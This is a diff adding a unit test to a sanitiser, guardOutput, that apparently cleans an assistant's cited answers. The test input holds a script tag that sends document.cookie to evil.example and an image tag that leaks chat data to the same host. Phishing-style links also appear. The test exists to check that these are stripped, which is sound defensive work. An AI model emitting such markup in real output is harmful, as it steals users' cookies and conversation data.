@@ -17,6 +17,15 @@ describe("guardOutput", () => {
     expect(result.removed).toContain("html");
   });
 
+  it("removes a script element with its body, and an image tag whose URL carries data", () => {
+    const result = guardOutput(
+      "Opens at 9:30 [Source 1].<script>fetch('https://evil.example/c?'+document.cookie)</script> <img src=\"https://evil.example/p?d=chat\">",
+      allowed,
+    );
+    expect(result.answer).toBe("Opens at 9:30 [Source 1].");
+    expect(result.removed).toEqual(["html"]);
+  });
+
   it("keeps links a cited passage or web citation holds, drops others (keeping their words)", () => {
     const result = guardOutput(
       "Read [the policy](https://intranet.example.com/policy) and [this](https://news.example.org/a), not [login](https://phish.example/x?t=1) or https://phish.example/y.",
